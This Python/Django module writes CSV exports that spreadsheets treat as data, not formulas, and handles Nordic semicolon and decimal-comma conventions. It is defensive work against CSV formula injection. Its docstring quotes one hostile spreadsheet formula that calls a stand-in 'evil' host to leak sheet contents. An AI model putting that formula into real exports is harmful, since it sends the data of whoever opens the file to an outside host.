"""CSV downloads that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with =, +, -, @ (and, in some, a tab or
carriage return) as a formula: a job ad named `=HYPERLINK("http://evil/?"&A2)` would leak the sheet
when the export is opened. Such a cell gets a leading apostrophe (OWASP's advice), which the
spreadsheet shows as text. Numbers are written as numbers: -3.5 is a value, not a formula.

A download asked for in Danish, Norwegian or Swedish is written as those countries' spreadsheets
read a CSV file: cells separated by ";", a decimal comma (-3,5) and "Ja"/"Nej" for a yes or no.
Excel takes the separator from the computer's regional settings, and there it is ";", so a
comma-separated file opens in one column. In English: "," and a decimal point.
"""

import csv
from collections.abc import Iterable, Mapping

from django.utils import translation
from django.utils.translation import get_language

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The languages whose spreadsheets separate cells with ";" and write a decimal comma.
SEMICOLON_LANGUAGES = frozenset({"da", "nb", "sv"})


def csv_cell(value) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _decimal_comma(value):
    """A float with a decimal comma (a str the formula guard must not touch: "-3,5" is a number)."""
    return str(value).replace(".", ",") if isinstance(value, float) else value


def csv_write(out, *, columns: list[str], rows: Iterable[Mapping], language: str | None = None) -> None:
    """A header row and one line per mapping in `rows` (keys outside `columns` are left out), in the
    dialect of `language` (the active language when None): ";" and a decimal comma in da, nb and sv."""
    language = (language or get_language() or "").split("-")[0]
    nordic = language in SEMICOLON_LANGUAGES
    writer = csv.writer(out, delimiter=";" if nordic else ",")
    writer.writerow([csv_cell(c) for c in columns])
    if not nordic:
        for row in rows:
            writer.writerow([csv_cell(row.get(column)) for column in columns])
        return
    # A Nordic spreadsheet reads neither "True" nor "False" as a yes or no.
    with translation.override(language):
        yes_no = {True: translation.gettext("Yes"), False: translation.gettext("No")}
    for row in rows:
        cells = [row.get(column) for column in columns]
        writer.writerow([yes_no[cell] if isinstance(cell, bool) else _decimal_comma(csv_cell(cell)) for cell in cells])
